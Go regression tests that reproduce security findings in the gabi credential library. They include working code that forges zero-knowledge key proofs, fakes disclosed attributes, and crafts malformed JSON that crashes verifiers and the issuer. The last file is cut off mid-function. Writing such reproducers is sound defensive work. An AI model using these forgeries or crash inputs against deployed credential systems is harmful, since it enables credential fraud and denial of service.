		b, ok := common.PrimeSqrt(new(big.Int).Mod(x, Qprime), Qprime)
		if !ok {
			return nil, false
		}
		return common.Crt(a, Pprime, b, Qprime), true
	}
	for i := range almostSafePrimeProductIters {
		curc := common.GetHashNumber(challenge, index, i, uint(2*N.BitLen()))
		log := new(big.Int).Mod(new(big.Int).Add(commit.logs[i], curc), phiN)
		x1 := new(big.Int).Mod(log, oddPhiN)
		x2 := new(big.Int).Sub(oddPhiN, x1)
		x3 := new(big.Int).Mod(new(big.Int).Mul(new(big.Int).ModInverse(big.NewInt(2), oddPhiN), x1), oddPhiN)
		x4 := new(big.Int).Sub(oddPhiN, x3)
		found := false
		for _, x := range []*big.Int{x1, x2, x3, x4} {
			if s, ok := sqrt(x); ok {
				proof.Responses = append(proof.Responses, s)
				found = true
				break
			}
		}
		if !found {
			return proof, false
		}
	}
	return proof, true
}

func TestHuntValidKeyProofForgedWithZeroCommitment(t *testing.T) {
	// --- a modulus that is not a product of two safe primes: P = 2 r^3 + 1, Q = 2 q' + 1
	three, eight := big.NewInt(3), big.NewInt(8)
	var r, P, qp, Q, N *big.Int
	for cand := int64(1<<21 + 11 - (1<<21)%24); ; cand += 24 { // r = 11 mod 24
		r = big.NewInt(cand)
		if !r.ProbablyPrime(40) {
			continue
		}
		P = new(big.Int).Exp(r, three, nil)
		P.Lsh(P, 1).Add(P, big.NewInt(1))
		if P.ProbablyPrime(40) {
			break
		}
	}
	for {
		qp = common.FastRandomBigInt(new(big.Int).Lsh(big.NewInt(1), 62))
		qp.SetBit(qp, 62, 1)
		qp.Sub(qp, new(big.Int).Mod(qp, big.NewInt(24))).Add(qp, big.NewInt(5)) // q' = 5 mod 24
		if !qp.ProbablyPrime(40) {
			continue
		}
		Q = new(big.Int).Lsh(qp, 1)
		Q.Add(Q, big.NewInt(1))
		if !Q.ProbablyPrime(40) {
			continue
		}
		N = new(big.Int).Mul(P, Q)
		small := false
		for i := int64(2); i < minimumFactor; i++ {
			if new(big.Int).GCD(nil, nil, N, big.NewInt(i)).Cmp(big.NewInt(1)) != 0 {
				small = true
			}
		}
		if small {
			continue
		}
		break
	}
	Pprime := new(big.Int).Rsh(P, 1) // = r^3, not a prime
	require.False(t, Pprime.ProbablyPrime(40))
	require.Equal(t, int64(5), new(big.Int).Mod(N, eight).Int64())
	require.Equal(t, int64(1), new(big.Int).Mod(N, three).Int64())
	t.Logf("r = %v, P = 2r^3+1 = %v, Q = %v, N = %v", r, P, Q, N)

	bases := []*big.Int{big.NewInt(36), big.NewInt(49), big.NewInt(64)}
	s := NewValidKeyProofStructure(N, bases)

	// --- the honest material of an unrelated key for the Camenisch part
	hPprime, hQprime, hQ := testPPrime, testQPrime, testQ

	GroupPrime := findSafePrime(s.n.BitLen() + 2*rangeProofEpsilon + 10)
	g, gok := zkproof.BuildGroup(GroupPrime)
	require.True(t, gok)
	zero := big.NewInt(0)

	list, PprimeSecret := s.pprime.commitmentsFromSecrets(g, nil, hPprime)
	list, QprimeSecret := s.qprime.commitmentsFromSecrets(g, list, hQprime)
	list = append(list, zero, zero) // the Pedersen commitment to p and its Schnorr commitment
	list, QSecret := s.q.commitmentsFromSecrets(g, list, hQ)

	basesL := zkproof.NewBaseMerge(&g, &QSecret, &PprimeSecret, &QprimeSecret)
	secrets := zkproof.NewSecretMerge(&QSecret, &PprimeSecret, &QprimeSecret)

	list = append(list, GroupPrime)
	list = append(list, s.n)
	list = append(list, zero) // pPprimeRel
	list = s.qQprimeRel.CommitmentsFromSecrets(g, list, &basesL, &secrets)
	list = append(list, zero) // pQNRel
	list, PprimeIsPrimeCommit := s.pprimeIsPrime.commitmentsFromSecrets(g, list, &basesL, &secrets)
	list, QprimeIsPrimeCommit := s.qprimeIsPrime.commitmentsFromSecrets(g, list, &basesL, &secrets)
	// Gennaro part and bases part: for the real N
	list, asppCommit := almostSafePrimeProductBuildCommitments(list, Pprime, qp)
	list, BasesValidCommit := s.basesValid.commitmentsFromSecrets(g, list, P, Q)

	challenge := common.HashCommit(list, false)

	one := func() Proof { return Proof{Result: big.NewInt(1)} }
	phiN := new(big.Int).Lsh(new(big.Int).Mul(Pprime, qp), 2)
	aspp, ok := huntASPPBuildProof(r, 3, qp, challenge, big.NewInt(3), asppCommit)
	require.True(t, ok, "unlucky: an exponent divisible by r, run again")
	proof := ValidKeyProof{
		GroupPrime:         GroupPrime,
		PQNRel:             one(),
		PProof:             PedersenProof{Commit: big.NewInt(0), Sresult: one(), Hresult: one()},
		QProof:             s.q.buildProof(g, challenge, QSecret),
		PprimeProof:        s.pprime.buildProof(g, challenge, PprimeSecret),
		QprimeProof:        s.qprime.buildProof(g, challenge, QprimeSecret),
		Challenge:          challenge,
		PprimeIsPrimeProof: s.pprimeIsPrime.buildProof(g, challenge, PprimeIsPrimeCommit, &secrets),
		QprimeIsPrimeProof: s.qprimeIsPrime.buildProof(g, challenge, QprimeIsPrimeCommit, &secrets),
		QSPPproof: QuasiSafePrimeProductProof{
			SFproof:   squareFreeBuildProof(N, phiN, challenge, big.NewInt(0)),
			PPPproof:  primePowerProductBuildProof(P, Q, challenge, big.NewInt(1)),
			DPPproof:  disjointPrimeProductBuildProof(P, Q, challenge, big.NewInt(2)),
			ASPPproof: aspp,
		},
		BasesValidProof: s.basesValid.buildProof(g, challenge, BasesValidCommit),
	}

	// over the wire
	bts, err := json.Marshal(proof)
	require.NoError(t, err)
	var received ValidKeyProof
	require.NoError(t, json.Unmarshal(bts, &received))

	verifier := NewValidKeyProofStructure(N, bases)
	accepted := verifier.VerifyProof(received)
	require.False(t, accepted, "ValidKeyProof accepted for N = (2r^3+1)(2q'+1), which is not a product of two safe primes")
}
