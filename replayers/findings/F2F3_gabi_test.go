package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/privacybydesign/gabi/internal/common"
)

// F2: an attribute index reported both as disclosed (value x) and as hidden (remainder) verifies:
// the verifier accepts a proof that reports an unsigned value as disclosed.
func TestF2(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce1, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(testPubK.Params.Lm)
	issuer := NewIssuer(testPrivK, testPubK, context)
	cred := createCredential(t, context, secret, issuer)

	b, err := cred.CreateDisclosureProofBuilder([]int{2}, nil, false)
	if err != nil {
		t.Fatal(err)
	}
	c, err := ProofBuilderList{b}.Challenge(context, nonce1, false)
	if err != nil {
		t.Fatal(err)
	}
	p := b.CreateProof(c).(*ProofD)
	if !p.Verify(testPubK, context, nonce1, false) {
		t.Fatal("honest proof does not verify")
	}
	// report attribute 1 as x = m-5 and keep the remainder 5 hidden: response' = response - c*x
	x := new(big.Int).Sub(cred.Attributes[1], big.NewInt(5))
	p.ADisclosed[1] = x
	p.AResponses[1] = new(big.Int).Sub(p.AResponses[1], new(big.Int).Mul(c, x))
	if p.Verify(testPubK, context, nonce1, false) {
		t.Errorf("proof reporting attribute 1 as %v (signed value %v) verifies", x, cred.Attributes[1])
	}
}

// F3: two issuance commitments with different secrets are accepted under one label when the second moves
// the difference into an extra response for base R_0.
func TestF3(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce1, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	nonce2, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	s1, _ := common.RandomBigInt(testPubK.Params.Lm - 2)
	s2 := new(big.Int).Add(s1, big.NewInt(12345))
	b1, _ := NewCredentialBuilder(testPubK, context, s1, nonce2, nil, nil)
	b2, _ := NewCredentialBuilder(testPubK, context, s2, nonce2, nil, nil)
	builders := ProofBuilderList{b1, b2}
	c, err := builders.Challenge(context, nonce1, false)
	if err != nil {
		t.Fatal(err)
	}
	pl, err := builders.BuildDistributedProofList(c, nil)
	if err != nil {
		t.Fatal(err)
	}
	keys := []*gabikeys.PublicKey{testPubK, testPubK}
	if pl.Verify(keys, context, nonce1, false, nil) {
		t.Fatal("lists with different secrets verify without manipulation: test assumption wrong")
	}
	// second proof: s_response' = s_response of first proof, difference goes to m_user_responses[0]
	p1, p2 := pl[0].(*ProofU), pl[1].(*ProofU)
	diff := new(big.Int).Sub(p2.SResponse, p1.SResponse)
	if diff.Sign() < 0 {
		t.Skip("negative difference; rerun")
	}
	p2.SResponse = new(big.Int).Set(p1.SResponse)
	p2.MUserResponses = map[int]*big.Int{0: diff}
	if pl.Verify(keys, context, nonce1, false, nil) {
		t.Errorf("two commitments to different secrets accepted as sharing one secret")
	}
}
