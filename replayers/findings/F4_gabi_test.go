package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
)

// F4: a range proof attached at an index that is not hidden (disclosed, or beyond the largest hidden index)
// is carried through verification unverified, and the library reports it as proving its statement.
func TestF4(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce1, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(testPubK.Params.Lm)
	issuer := NewIssuer(testPrivK, testPubK, context)
	cred := createCredential(t, context, secret, issuer)
	p, err := cred.CreateDisclosureProof([]int{4}, nil, false, context, nonce1)
	if err != nil {
		t.Fatal(err)
	}
	bogus := &rangeproof.Proof{
		Cs: []*big.Int{big.NewInt(1), big.NewInt(1), big.NewInt(1), big.NewInt(1)}, DResponses: []*big.Int{}, VResponses: []*big.Int{},
		V5Response: big.NewInt(1), Ld: 8, Sign: 1, A: 1, K: big.NewInt(1000000000),
	}
	for _, idx := range []int{4, 1000} {
		p.RangeProofs = map[int][]*rangeproof.Proof{idx: {bogus}}
		p.cachedRangeStructures = nil
		if p.Verify(testPubK, context, nonce1, false) && bogus.ProvesStatement(1, 1, big.NewInt(1000000000)) {
			t.Errorf("unverified range proof at index %d carried by an accepted proof, reported as proving m >= 10^9", idx)
		}
	}
}
