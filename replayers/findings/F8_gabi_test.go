package gabi

import (
	"encoding/json"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
)

// F8: decodable but malformed proof lists make the verification entry points panic.
func verifyNoPanic(t *testing.T, doc string) (verdict bool, panicked interface{}) {
	var pl ProofList
	if err := json.Unmarshal([]byte(doc), &pl); err != nil {
		t.Skipf("not decodable: %v", err)
	}
	keys := make([]*gabikeys.PublicKey, len(pl))
	for i := range keys {
		keys[i] = testPubK
	}
	defer func() { panicked = recover() }()
	verdict = pl.Verify(keys, big.NewInt(1), big.NewInt(1), false, nil)
	return
}

func TestF8(t *testing.T) {
	docs := []string{
		`[{"A":"AQ=="}]`,
		`[{"A":"AQ==","c":"AQ==","e_response":"AQ==","v_response":"AQ==","a_responses":{"0":"AQ=="},"a_disclosed":{"1000":"AQ=="}}]`,
		`[{"A":"AQ==","c":"AQ==","e_response":"AQ==","v_response":"AQ==","a_responses":{"0":"AQ=="},"a_disclosed":{},"nonrev_proof":{}}]`,
		`[{"U":"AQ=="}]`,
		`[{"U":"AQ==","c":"AQ==","v_prime_response":"AQ==","s_response":"AQ==","m_user_responses":{"77":"AQ=="}}]`,
		`[{"A":"AQ==","c":"AQ==","e_response":"AQ==","v_response":"AQ==","a_responses":{"0":null},"a_disclosed":{}}]`,
		`[{"A":"AQ==","c":"AQ==","e_response":"AQ==","v_response":"AQ==","a_responses":{"0":"AQ==","1":"AQ=="},"a_disclosed":{},"rangeproofs":{"1":[null]}}]`,
	}
	for _, d := range docs {
		v, p := verifyNoPanic(t, d)
		if p != nil {
			t.Errorf("panic %v on %s", p, d)
		} else if v {
			t.Errorf("accepted %s", d)
		}
	}
}
