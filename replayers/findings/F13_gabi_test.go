package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/stretchr/testify/require"
)

// F13: the keyshare server's KeyshareResponse panics on a decodable but incomplete request of the user: missing
// nonce, missing user response, challenge-input elements without value or commitment, nil entries among the other
// commitments. The commitment hash is no obstacle: the user computes it over its own (incomplete) input.
func f13try(t *testing.T, name string, req KeyshareResponseRequest[string], keys map[string]*gabikeys.PublicKey) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("%s: KeyshareResponse panicked: %v", name, r)
		}
	}()
	h, err := keyshareUserCommitmentsHash(req.UserChallengeInput)
	require.NoError(t, err)
	p, err := KeyshareResponse(big.NewInt(12345), big.NewInt(67890), KeyshareCommitmentRequest{HashedUserCommitments: h}, req, keys)
	if err == nil || p != nil {
		t.Errorf("%s: accepted", name)
	}
}

func TestF13(t *testing.T) {
	keys := map[string]*gabikeys.PublicKey{"k": testPubK}
	kid := "k"
	one := func() *big.Int { return big.NewInt(1) }
	good := func() KeyshareUserChallengeInput[string] {
		return KeyshareUserChallengeInput[string]{KeyID: &kid, Value: one(), Commitment: one()}
	}
	f13try(t, "no nonce", KeyshareResponseRequest[string]{UserResponse: one(), UserChallengeInput: []KeyshareUserChallengeInput[string]{good()}}, keys)
	f13try(t, "no user response", KeyshareResponseRequest[string]{Nonce: one(), UserChallengeInput: []KeyshareUserChallengeInput[string]{good()}}, keys)
	noval := good()
	noval.Value = nil
	f13try(t, "no value", KeyshareResponseRequest[string]{Nonce: one(), UserResponse: one(), UserChallengeInput: []KeyshareUserChallengeInput[string]{noval}}, keys)
	nocomm := good()
	nocomm.Commitment = nil
	f13try(t, "no commitment", KeyshareResponseRequest[string]{Nonce: one(), UserResponse: one(), UserChallengeInput: []KeyshareUserChallengeInput[string]{nocomm}}, keys)
	nokey := KeyshareUserChallengeInput[string]{Value: one()}
	f13try(t, "no commitment, no key", KeyshareResponseRequest[string]{Nonce: one(), UserResponse: one(), UserChallengeInput: []KeyshareUserChallengeInput[string]{nokey}}, keys)
	other := good()
	other.OtherCommitments = []*big.Int{nil}
	f13try(t, "nil other commitment", KeyshareResponseRequest[string]{Nonce: one(), UserResponse: one(), UserChallengeInput: []KeyshareUserChallengeInput[string]{other}}, keys)
}
