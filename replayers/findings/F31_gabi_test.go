package gabi

import (
	"encoding/json"
	"testing"

	"github.com/privacybydesign/gabi/internal/common"
	"github.com/stretchr/testify/require"
)

// F31: the issuer signs whatever commitment message a client sends. A decodable IssueCommitmentMessage that lacks the nonce
// n_2 (or the commitment U) made Issuer.IssueSignature panic (nil integer in the hash input / nil factor) instead of
// refusing the request.
func TestF31(t *testing.T) {
	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce1, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	nonce2, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK.Params.Lm)
	require.NoError(t, err)
	b, err := NewCredentialBuilder(testPubK, context, secret, nonce2, nil, nil)
	require.NoError(t, err)
	commitMsg, err := b.CommitToSecretAndProve(nonce1)
	require.NoError(t, err)
	bts, err := json.Marshal(commitMsg)
	require.NoError(t, err)

	var generic map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(bts, &generic))
	issuer := NewIssuer(testPrivK, testPubK, context)
	for _, field := range []string{"n_2", "U"} {
		forged := map[string]json.RawMessage{}
		for k, v := range generic {
			if k != field {
				forged[k] = v
			}
		}
		fbts, err := json.Marshal(forged)
		require.NoError(t, err)
		msg := &IssueCommitmentMessage{}
		require.NoError(t, json.Unmarshal(fbts, msg), "the message without %s is decodable", field)
		require.NotPanics(t, func() {
			_, err := issuer.IssueSignature(msg.U, testAttributes1, nil, msg.Nonce2, nil)
			require.Error(t, err, "a commitment message without %s must be refused", field)
		}, "issuer panics on a commitment message without %s", field)
	}
}
