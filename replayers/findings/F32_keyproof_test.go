// F32-F34: reproducers written by a reviewing sub-agent (TestHunt...): verifier panics on an extra key in a range proof result map
// (F32), on a key base not below the order of the proof group (F33), and acceptance of a forged key proof through the unlinked
// multiplier of an exponentiation step (F34). All fail on the tree before the fix: commits and pass after them.
package keyproof

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/safeprime"
	"github.com/privacybydesign/gabi/zkproof"
)

// ---------------------------------------------------------------------------
// shared honest proof (built once, cloned through JSON for every test)
// ---------------------------------------------------------------------------

var (
	huntOnce   sync.Once
	huntStruct ValidKeyProofStructure
	huntJSON   []byte
	huntBases  = []*big.Int{big.NewInt(36), big.NewInt(49)}
)

func huntHonest(t testing.TB) (ValidKeyProofStructure, ValidKeyProof) {
	huntOnce.Do(func() {
		huntStruct = NewValidKeyProofStructure(testN, huntBases)
		proof := huntStruct.BuildProof(testPPrime, testQPrime)
		var err error
		huntJSON, err = json.Marshal(proof)
		if err != nil {
			panic(err)
		}
	})
	var p ValidKeyProof
	if err := json.Unmarshal(huntJSON, &p); err != nil {
		t.Fatalf("json: %v", err)
	}
	return huntStruct, p
}

// huntVerify runs the verifier under recover and says what happened.
func huntVerify(s *ValidKeyProofStructure, proof ValidKeyProof) (outcome string) {
	defer func() {
		if r := recover(); r != nil {
			msg := fmt.Sprint(r)
			if len(msg) > 120 {
				msg = msg[:120] + "..."
			}
			outcome = "PANIC: " + msg
		}
	}()
	if s.VerifyProof(proof) {
		return "ACCEPT"
	}
	return "reject"
}

// huntMutateJSON decodes the honest proof JSON generically, lets f alter it,
// and decodes the result as a ValidKeyProof (exactly what a verifier that got
// the document from the network would do).
func huntMutateJSON(t testing.TB, f func(doc map[string]any)) ValidKeyProof {
	huntHonest(t)
	var doc map[string]any
	if err := json.Unmarshal(huntJSON, &doc); err != nil {
		t.Fatal(err)
	}
	f(doc)
	raw, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	var p ValidKeyProof
	if err := json.Unmarshal(raw, &p); err != nil {
		t.Fatalf("crafted document does not decode: %v", err)
	}
	return p
}

func huntReport(t *testing.T, what, outcome string) {
	t.Logf("%s -> %s", what, outcome)
	if outcome != "reject" {
		t.Errorf("MISBEHAVIOUR: %s -> %s", what, outcome)
	}
}

// sanity: the honest proof verifies, so later rejections/panics are due to the alteration
func TestHuntAAHonestBaseline(t *testing.T) {
	s, p := huntHonest(t)
	if out := huntVerify(&s, p); out != "ACCEPT" {
		t.Fatalf("honest proof: %s", out)
	}
}

// ---------------------------------------------------------------------------
// 1. RangeProof.Results: extra map key that the structure check never looks at
// ---------------------------------------------------------------------------

func TestHuntRangeProofExtraKeyShortList(t *testing.T) {
	p := huntMutateJSON(t, func(doc map[string]any) {
		rp := doc["PprimeIsPrimeProof"].(map[string]any)["PreaRangeProof"].(map[string]any)
		rp["Results"].(map[string]any)["zz_extra"] = []any{}
	})
	s, _ := huntHonest(t)
	huntReport(t, "PprimeIsPrimeProof.PreaRangeProof.Results has extra key with empty list", huntVerify(&s, p))
}

func TestHuntRangeProofExtraKeyNilEntries(t *testing.T) {
	p := huntMutateJSON(t, func(doc map[string]any) {
		rp := doc["BasesValidProof"].(map[string]any)["RootsRangeProof"].([]any)[0].(map[string]any)
		nils := make([]any, rangeProofIters)
		rp["Results"].(map[string]any)["zz_extra"] = nils
	})
	s, _ := huntHonest(t)
	huntReport(t, "BasesValidProof.RootsRangeProof[0].Results has extra key with 80 null entries", huntVerify(&s, p))
}

// Same gap but in a range proof that exp.go evaluates on a worker goroutine:
// the panic cannot be recovered by the caller, the whole process dies.
func TestHuntRangeProofExtraKeyInGoroutine(t *testing.T) {
	if os.Getenv("HUNT_CHILD") == "goroutine" {
		p := huntMutateJSON(t, func(doc map[string]any) {
			exp := doc["PprimeIsPrimeProof"].(map[string]any)["AExpProof"].(map[string]any)
			rp := exp["BasePowRangeProofs"].([]any)[0].(map[string]any)
			rp["Results"].(map[string]any)["zz_extra"] = []any{}
		})
		s, _ := huntHonest(t)
		fmt.Println("CHILD-OUTCOME:", huntVerify(&s, p))
		return
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestHuntRangeProofExtraKeyInGoroutine$", "-test.v")
	cmd.Env = append(os.Environ(), "HUNT_CHILD=goroutine")
	out, err := cmd.CombinedOutput()
	txt := string(out)
	switch {
	case strings.Contains(txt, "CHILD-OUTCOME: reject"):
		t.Log("child rejected")
	case err != nil && strings.Contains(txt, "panic:"):
		idx := strings.Index(txt, "panic:")
		end := idx + 400
		if end > len(txt) {
			end = len(txt)
		}
		t.Errorf("MISBEHAVIOUR: verifier process crashed (unrecoverable goroutine panic), exit=%v\n%s", err, txt[idx:end])
	default:
		t.Errorf("unexpected child result err=%v out=%s", err, txt)
	}
}

// ---------------------------------------------------------------------------
// 2. base (attacker-chosen public key element) >= order of the proof group
// ---------------------------------------------------------------------------

func TestHuntBaseNotBelowGroupOrder(t *testing.T) {
	_, p := huntHonest(t)
	huge := new(big.Int).Lsh(big.NewInt(1), uint(p.GroupPrime.BitLen()+8))
	// same modulus, same number of bases, one of them is just very large
	s := NewValidKeyProofStructure(testN, []*big.Int{big.NewInt(36), huge})
	huntReport(t, "public key base >= order of proof group (GroupPrime chosen by prover)", huntVerify(&s, p))
}

// ---------------------------------------------------------------------------
// 3. N == 0 : structure constructor never returns (uint underflow bitlen-1)
// ---------------------------------------------------------------------------

// (the reproducer of the non-terminating constructor NewValidKeyProofStructure(N=0, ...) was removed from this copy: it is an
// observation, not one of the repaired defects)

// ---------------------------------------------------------------------------
// 4. expStepB: proof.Mul.Commit is never compared with the commitment that the
//    surrounding proof knows under the name `mulname`; the multiplier used in
//    the step is therefore whatever the prover likes.
// ---------------------------------------------------------------------------

// huntLie overrides selected secrets of an honest lookup.
type huntLie struct {
	inner zkproof.SecretLookup
	over  map[string]*big.Int
}

func (l *huntLie) Secret(name string) *big.Int {
	if v, ok := l.over[name]; ok {
		return v
	}
	return l.inner.Secret(name)
}
func (l *huntLie) Randomizer(name string) *big.Int { return l.inner.Randomizer(name) }

func TestHuntExpStepBUnlinkedMultiplier(t *testing.T) {
	g, gok := zkproof.BuildGroup(big.NewInt(47))
	if !gok {
		t.Fatal("group")
	}
	bitS, preS, postS, mulS, modS := newPedersenStructure("bit"), newPedersenStructure("pre"), newPedersenStructure("post"), newPedersenStructure("mul"), newPedersenStructure("mod")
	_, bitC := bitS.commitmentsFromSecrets(g, nil, big.NewInt(1))
	_, preC := preS.commitmentsFromSecrets(g, nil, big.NewInt(2))
	_, postC := postS.commitmentsFromSecrets(g, nil, big.NewInt(10)) // 10 != 2*3 mod 11
	_, mulC := mulS.commitmentsFromSecrets(g, nil, big.NewInt(3))
	_, modC := modS.commitmentsFromSecrets(g, nil, big.NewInt(11))

	bases := zkproof.NewBaseMerge(&g, &bitC, &preC, &postC, &mulC, &modC)
	truth := zkproof.NewSecretMerge(&bitC, &preC, &postC, &mulC, &modC)
	s := newExpStepBStructure("bit", "pre", "post", "mul", "mod", 4)
	if s.isTrue(&truth) {
		t.Fatal("statement should be false: 2*3 mod 11 != 10")
	}

	// the cheating prover simply says "mul" is 5 (2*5 = 10 mod 11)
	lie := &huntLie{inner: &truth, over: map[string]*big.Int{"mul": big.NewInt(5)}}
	challenge := big.NewInt(12345)
	listSecrets, commit := s.commitmentsFromSecrets(g, []*big.Int{}, &bases, lie)
	proof := s.buildProof(g, challenge, commit, lie)
	if !s.verifyProofStructure(proof) {
		t.Fatal("structure rejected")
	}

	// verifier side: the bases are the real public commitments (mul commits to 3)
	bitP, preP, postP, mulP, modP := bitS.buildProof(g, challenge, bitC), preS.buildProof(g, challenge, preC), postS.buildProof(g, challenge, postC), mulS.buildProof(g, challenge, mulC), modS.buildProof(g, challenge, modC)
	bitP.setName("bit")
	preP.setName("pre")
	postP.setName("post")
	mulP.setName("mul")
	modP.setName("mod")
	proofBases := zkproof.NewBaseMerge(&g, &bitP, &preP, &postP, &mulP, &modP)
	listProof := s.commitmentsFromProof(g, []*big.Int{}, challenge, &proofBases, proof)

	same := len(listSecrets) == len(listProof)
	for i := 0; same && i < len(listSecrets); i++ {
		same = listSecrets[i].Cmp(listProof[i]) == 0
	}
	t.Logf("proof.Mul.Commit == commitment named mul in bases: %v", proof.Mul.Commit.Cmp(mulC.commit) == 0)
	if same {
		t.Errorf("MISBEHAVIOUR: expStepB verifier reproduces the prover's commitments (=accepts) for the false statement post = pre*mul mod m (2*3 != 10 mod 11)")
	} else {
		t.Log("commitment lists differ -> rejected")
	}
}

// ---------------------------------------------------------------------------
// 5. End-to-end consequence of (4): a complete ValidKeyProof for a modulus
//    N = P*Q with P = 2*r^3+1 (so (P-1)/2 = r^3 is NOT prime, P is not a safe
//    prime) that the unchanged ValidKeyProofStructure.VerifyProof accepts.
//    Everything is honest except (a) the multiplier in one expStepB of each
//    of the two exponentiations in the primality proof of p' = r^3 and (b) the
//    square roots in the almost-safe-prime-product proof are taken modulo a
//    prime power (which the honest helper cannot do, but is easy).
// ---------------------------------------------------------------------------

// forged variant of expProofStructure.commitmentsFromSecrets: the claimed
// result (secret named s.result) need not be base^exponent mod m.
func huntForgedExpCommit(s *expProofStructure, g zkproof.Group, list []*big.Int, bases zkproof.BaseLookup, secretdata zkproof.SecretLookup) ([]*big.Int, expProofCommit) {
	var commit expProofCommit
	exponent := secretdata.Secret(s.exponent)
	mod := secretdata.Secret(s.mod)
	base := secretdata.Secret(s.base)
	target := secretdata.Secret(s.result) // 1 or -1

	BitEqHider := new(big.Int).Neg(secretdata.Secret(strings.Join([]string{s.exponent, "hider"}, "_")))
	commit.expBits = make([]pedersenCommit, s.bitlen)
	for i := uint(0); i < s.bitlen; i++ {
		list, commit.expBits[i] = s.expBits[i].commitmentsFromSecrets(g, list, big.NewInt(int64(exponent.Bit(int(i)))))
		BitEqHider.Add(BitEqHider, new(big.Int).Lsh(commit.expBits[i].hider.secretv, i))
	}
	BitEqHider.Mod(BitEqHider, g.Order)
	commit.expBitEqHider = newSecret(g, strings.Join([]string{s.myname, "biteqhider"}, "_"), BitEqHider)

	commit.basePows = make([]pedersenCommit, s.bitlen)
	for i := uint(0); i < s.bitlen; i++ {
		list, commit.basePows[i] = s.basePows[i].commitmentsFromSecrets(g, list,
			new(big.Int).Exp(base, new(big.Int).Lsh(big.NewInt(1), i), mod))
	}
	list, commit.start = s.start.commitmentsFromSecrets(g, list, big.NewInt(1))

	// highest set bit of the exponent: that is where we cheat
	h := uint(exponent.BitLen() - 1)
	cur := big.NewInt(1)
	pre := big.NewInt(1) // value entering step h
	commit.interRess = make([]pedersenCommit, s.bitlen-1)
	for i := uint(0); i < s.bitlen-1; i++ {
		if i < h {
			if exponent.Bit(int(i)) == 1 {
				cur.Mod(new(big.Int).Mul(cur, new(big.Int).Exp(base, new(big.Int).Lsh(big.NewInt(1), i), mod)), mod)
			}
			pre = new(big.Int).Set(cur)
			list, commit.interRess[i] = s.interRess[i].commitmentsFromSecrets(g, list, cur)
		} else {
			list, commit.interRess[i] = s.interRess[i].commitmentsFromSecrets(g, list, target)
		}
	}
	// multiplier that makes pre * m' = target (mod m)
	forgedMul := new(big.Int).ModInverse(pre, mod)
	forgedMul.Mul(forgedMul, target).Mod(forgedMul, mod)

	var baseList []zkproof.BaseLookup
	var secretList []zkproof.SecretLookup
	for i := range commit.expBits {
		baseList = append(baseList, &commit.expBits[i])
		secretList = append(secretList, &commit.expBits[i])
	}
	for i := range commit.basePows {
		baseList = append(baseList, &commit.basePows[i])
		secretList = append(secretList, &commit.basePows[i])
	}
	baseList = append(baseList, &commit.start)
	secretList = append(secretList, &commit.start)
	for i := range commit.interRess {
		baseList = append(baseList, &commit.interRess[i])
		secretList = append(secretList, &commit.interRess[i])
	}
	baseList = append(baseList, bases)
	secretList = append(secretList, secretdata)
	secretList = append(secretList, &commit.expBitEqHider)
	innerBases := zkproof.NewBaseMerge(baseList...)
	innerSecrets := zkproof.NewSecretMerge(secretList...)

	list = s.expBitEq.CommitmentsFromSecrets(g, list, &innerBases, &innerSecrets)
	commit.basePowRangeCommit = make([]rangeCommit, len(s.basePowRange))
	for i := range s.basePowRange {
		list, commit.basePowRangeCommit[i] = s.basePowRange[i].commitmentsFromSecrets(g, list, &innerBases, &innerSecrets)
	}
	commit.basePowRelCommit = make([]multiplicationProofCommit, len(s.basePowRels))
	for i := range s.basePowRels {
		list, commit.basePowRelCommit[i] = s.basePowRels[i].commitmentsFromSecrets(g, list, &innerBases, &innerSecrets)
	}
	list = s.startRep.CommitmentsFromSecrets(g, list, &innerBases, &innerSecrets)
	commit.interResRangeCommit = make([]rangeCommit, len(s.interResRange))
	for i := range s.interResRange {
		list, commit.interResRangeCommit[i] = s.interResRange[i].commitmentsFromSecrets(g, list, &innerBases, &innerSecrets)
	}
	commit.interStepsCommit = make([]expStepCommit, len(s.interSteps))
	for i := range s.interSteps {
		var sd zkproof.SecretLookup = &innerSecrets
		if uint(i) == h {
			// THE lie: in this step the multiplier is not base^(2^h)
			sd = &huntLie{inner: &innerSecrets, over: map[string]*big.Int{
				strings.Join([]string{s.myname, "base", fmt.Sprintf("%v", i)}, "_"): forgedMul,
			}}
		}
		list, commit.interStepsCommit[i] = s.interSteps[i].commitmentsFromSecrets(g, list, &innerBases, sd)
	}
	return list, commit
}

// forged variant of primeProofStructure.commitmentsFromSecrets for a modulus that is not prime
func huntForgedPrimeCommit(s *primeProofStructure, g zkproof.Group, list []*big.Int, bases zkproof.BaseLookup, secretdata zkproof.SecretLookup) ([]*big.Int, primeProofCommit) {
	var commit primeProofCommit
	p := secretdata.Secret(s.primeName)

	list, commit.prea = s.prea.commitmentsFromSecrets(g, list, common.FastRandomBigInt(p))
	aAdd := common.GetHashNumber(commit.prea.commit, nil, 0, s.bitlen)
